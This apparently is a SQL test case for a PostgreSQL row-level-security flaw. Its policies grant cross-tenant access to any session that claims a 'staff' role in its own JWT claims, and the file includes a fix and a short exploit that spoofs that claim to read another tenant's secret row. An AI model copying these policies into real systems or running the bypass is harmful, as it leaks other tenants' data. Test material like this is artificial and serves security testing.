-- What: A role in a list of the session's claims opens every row: it is a part of the document that a session says of itself.
-- Class: policy_escape_setting|cross_tenant_leak
-- Object: public.items | public.notes | public.files
-- Exploit: Put the role into the list.
-- Setting: request.jwt.claims
-- Value: {"orgs":["{id}"],"roles":[],"app":{"roles":[]}}
-- Source: "is staff" tests beside a list of organisations
-- @schema
create function claims() returns jsonb language sql stable set search_path = pg_catalog, pg_temp as $$
  select nullif(current_setting('request.jwt.claims', true), '')::jsonb $$;
create table items (id bigint generated always as identity primary key, tenant_id uuid not null, body text not null);
create table notes (id bigint generated always as identity primary key, tenant_id uuid not null, body text not null);
create table files (id bigint generated always as identity primary key, tenant_id uuid not null, body text not null);
alter table items enable row level security;
alter table items force row level security;
alter table notes enable row level security;
alter table notes force row level security;
alter table files enable row level security;
alter table files force row level security;
create policy tenant on items using ((claims() -> 'orgs') ? tenant_id::text
  or 'staff' in (select jsonb_array_elements_text(claims() -> 'roles')));
create policy tenant on notes using ((claims() -> 'orgs') ? tenant_id::text or (claims() -> 'roles') @> '["staff"]');
create policy tenant on files using ((claims() -> 'orgs') ? tenant_id::text or (claims() -> 'app' -> 'roles') ? 'staff');
grant select, insert, update, delete on items, notes, files to app_user;
-- @rows
insert into items (tenant_id, body) values (:'A', 'A-row'), (:'B', 'B-secret');
insert into notes (tenant_id, body) values (:'A', 'A-row'), (:'B', 'B-secret');
insert into files (tenant_id, body) values (:'A', 'A-row'), (:'B', 'B-secret');
-- @fix
alter policy tenant on items using ((claims() -> 'orgs') ? tenant_id::text);
alter policy tenant on notes using ((claims() -> 'orgs') ? tenant_id::text);
alter policy tenant on files using ((claims() -> 'orgs') ? tenant_id::text);
-- @control
select from items join notes using (tenant_id) join files using (tenant_id) where tenant_id = :'A';
-- @exploit
select set_config('request.jwt.claims', '{"orgs":["' || :'A' || '"],"roles":["staff"]}', false);
select from items where body = 'B-secret';
